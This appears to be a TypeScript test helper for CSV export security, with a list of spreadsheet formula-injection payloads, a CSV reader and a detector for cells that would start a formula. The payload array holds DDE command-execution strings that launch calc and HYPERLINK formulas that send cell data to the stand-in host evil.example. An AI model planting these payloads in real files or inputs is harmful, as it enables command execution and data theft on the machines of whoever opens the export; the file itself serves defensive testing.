/**
 * What the security review typed into user ids and reasons: a `;` or tab inside a cell followed
 * by a formula, and cells that start with one.
 */
export const FORMULA_PAYLOADS = [
  ";=cmd|' /C calc'!A0",
  "\t=cmd|' /C calc'!A0",
  ';=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=HYPERLINK("https://evil.example")',
  ";+1+cmd|' /C calc'!A0",
  "\t-1+cmd|' /C calc'!A0",
  ";@SUM(1+1)*cmd|' /C calc'!A0",
  ", =1+1",
  '; "=1+1"',
  "\r\n=1+1",
  "\t",
  "\r=1+1",
] as const;

/**
 * An RFC 4180 reader that splits on `separator`: how a spreadsheet set to that separator reads
 * the file. Rows of cells, the last line end dropped.
 */
export function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === separator) {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell's text after what a lenient reader strips: leading spaces and quotes. */
const stripped = (cell: string) => cell.replace(/^[ "]+/, "");

/**
 * Every cell that would start a formula, however the file is read: by an RFC 4180 reader set to
 * `,`, `;` or tab, or pasted (split on each separator and line break, quotes not honoured).
 */
export function formulaCellsIn(csv: string): string[] {
  const quoteAware = [",", ";", "\t"].flatMap((separator) => readCsv(csv, separator).flat());
  const pasted = csv.split(/[,;\t\r\n]/);
  return [...quoteAware, ...pasted].filter((cell) => FORMULA_START.test(stripped(cell)));
}
